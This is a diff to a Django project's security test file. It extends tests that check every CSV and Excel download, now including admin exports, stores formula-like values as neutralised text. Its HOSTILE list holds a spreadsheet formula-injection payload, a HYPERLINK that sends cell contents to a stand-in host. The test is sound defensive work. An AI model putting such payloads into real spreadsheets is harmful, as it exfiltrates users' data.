@@ -5,6 +5,7 @@ import io
 from decimal import Decimal
 
 import pytest
+from django.contrib.admin import site as admin_site
 from django.urls import reverse
 from openpyxl import load_workbook
 
@@ -13,7 +14,7 @@ from indicators.services import measurement_record, strategy_progress_record
 from indicators.spreadsheets import FORMULA_STARTS
 from plan.models import Strategy
 from tests import codes
-from tests.security.url_map import project_urls
+from tests.security.url_map import admin_urls, project_urls
 
 HOSTILE = [
     '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")',
@@ -74,25 +75,79 @@ def cells_of(response):
                 yield cell.value, cell.data_type
 
 
+def assert_neutralised(name, response):
+    texts = []
+    for value, data_type in cells_of(response):
+        assert data_type != "f", (name, value)
+        if isinstance(value, str):
+            assert not value.startswith(FORMULA_STARTS), (name, value)
+            texts.append(value)
+    # The hostile texts are in the file, neutralised, not dropped.
+    assert any(text.startswith("'=HYPERLINK") for text in texts), name
+
+
+def is_attachment(response):
+    return response.get("Content-Disposition", "").startswith("attachment")
+
+
 def test_every_download_neutralises_formulas(admin_client, hostile_data):
     checked = []
     for name, route in sorted(project_urls().items()):
-        if "<" in route or name in NOT_PRODUCED:
+        if name in NOT_PRODUCED:
             continue
-        response = admin_client.get(reverse(name), {"periode": hostile_data.pk})
-        if not response.get("Content-Disposition", "").startswith("attachment"):
+        if "<years:years>" in route:  # any plan's pages, at its own URLs
+            url = reverse(name, kwargs={"years": hostile_data.plan.years})
+        elif "<" in route:
             continue
-        texts = []
-        for value, data_type in cells_of(response):
-            assert data_type != "f", (name, value)
-            if isinstance(value, str):
-                assert not value.startswith(FORMULA_STARTS), (name, value)
-                texts.append(value)
-        # The hostile texts are in the file, neutralised, not dropped.
-        assert any(text.startswith("'=HYPERLINK") for text in texts), name
+        else:
+            url = reverse(name)
+        response = admin_client.get(url, {"periode": hostile_data.pk})
+        if not is_attachment(response):
+            continue
+        assert_neutralised(name, response)
         checked.append(name)
     assert {
         "indicators:measurement_export_csv",
         "indicators:measurement_export_xlsx",
         "board:board_report_xlsx",
+        "board:plan_board_report_xlsx",
+    } <= set(checked)
+
+
+def admin_object_ids():
+    """{URL name prefix « admin:plan_strategicplan_ »: the pk of a saved object of its model}."""
+    ids = {}
+    for model in admin_site._registry:
+        first = model._default_manager.order_by("pk").first()
+        if first is not None:
+            ids[f"admin:{model._meta.app_label}_{model._meta.model_name}_"] = first.pk
+    return ids
+
+
+def test_every_admin_download_neutralises_formulas(admin_client, hostile_data):
+    """The admin's files too (a plan's structure workbook, its empty template), found by
+    walking the admin's URLs: those without parameters, and those of one saved object."""
+    ids = admin_object_ids()
+    checked = []
+    for name, route in sorted(admin_urls().items()):
+        path = "/" + route
+        if "<path:object_id>" in path:
+            prefix = next((p for p in ids if name.startswith(p)), None)
+            if prefix is None:
+                continue
+            path = path.replace("<path:object_id>", str(ids[prefix]))
+        if "<" in path or "(" in path or name == "admin:logout":
+            continue
+        response = admin_client.get(path)
+        if not is_attachment(response):
+            continue
+        if name == "admin:plan_strategicplan_structure_template":
+            # The empty template holds no text of the plan: only its headers and lists.
+            assert all(data_type != "f" for _value, data_type in cells_of(response))
+        else:
+            assert_neutralised(name, response)
+        checked.append(name)
+    assert {
+        "admin:plan_strategicplan_structure_export",
+        "admin:plan_strategicplan_structure_template",
     } <= set(checked)
